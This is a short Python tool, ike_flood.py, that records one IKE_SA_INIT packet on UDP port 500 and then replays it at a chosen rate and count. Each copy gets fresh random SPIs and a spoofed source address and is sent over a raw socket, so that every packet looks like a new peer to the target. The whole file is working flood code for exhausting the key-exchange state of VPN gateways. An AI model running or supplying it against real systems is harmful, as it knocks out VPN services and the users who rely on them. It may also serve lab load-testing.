#!/usr/bin/python3
"""IKE_SA_INIT from strangers.

    ike_flood.py catch ADDRESS FILE               waits for one datagram on port 500, writes it
    ike_flood.py send FILE TARGET COUNT RATE      the same one with other SPIs from spoofed addresses, COUNT
                                                  times, at most RATE a second; tells the rate it reached

The nonce and the public value stay as they were: to the target each is a new peer.
"""

import errno
import os
import socket
import struct
import sys
import time


def catch(address, path):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((address, 500))
        sock.settimeout(20)
        data = sock.recv(65535)
    with open(path + ".new", "wb") as file:
        file.write(data)
    os.rename(path + ".new", path)


def packet(message, number, target):
    source = struct.pack("!I", (198 << 24 | 18 << 16) + number % 0x1FFFE + 1)
    body = os.urandom(8) + message[8:]
    udp = struct.pack("!HHHH", 1024 + number % 60000, 500, 8 + len(body), 0) + body
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + source + target + udp


BURST = 100         # who is late does not catch up in one go: queues on the way hold no more


def send(path, target, count, rate):
    with open(path, "rb") as file:
        message = file.read()
    to = socket.inet_aton(target)
    sent, start = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while sent < count:
            due = min(count, int((time.monotonic() - start) * rate), sent + BURST)
            while sent < due:
                try:
                    sock.sendto(packet(message, sent, to), (target, 0))
                except BlockingIOError:
                    continue
                except OSError as error:
                    if error.errno != errno.ENOBUFS:
                        raise
                    continue
                sent += 1
            time.sleep(0.001)
    print(f"sent {sent}, {sent / (time.monotonic() - start):.0f} a second")


if sys.argv[1] == "catch":
    catch(*sys.argv[2:])
else:
    send(sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
